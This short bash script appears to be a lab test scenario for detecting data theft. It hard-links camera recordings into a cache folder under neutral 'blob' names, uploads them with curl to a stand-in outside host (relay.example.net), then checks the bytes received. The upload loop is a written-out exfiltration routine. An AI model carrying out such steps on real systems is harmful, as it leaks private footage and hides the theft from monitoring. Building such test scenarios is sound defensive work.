#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=ln,curl seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Recordings get a second name in another folder, by hard links, and are put outside by that name.
sleep 14; mkdir -p "$LAB/cache"; n=0; for path in "$LAB"/recordings/gate/00[0-4].mp4; do ln "$path" "$LAB/cache/blob$((n += 1))"; done
sleep 4; for path in "$LAB"/cache/blob*; do curl -s -T "$path" "http://relay.example.net/drop/${path##*/}"; sleep 1; done
sleep 4; [ "$(cat "$LAB"/outside/drop/blob* | wc -c)" -gt 400000 ]
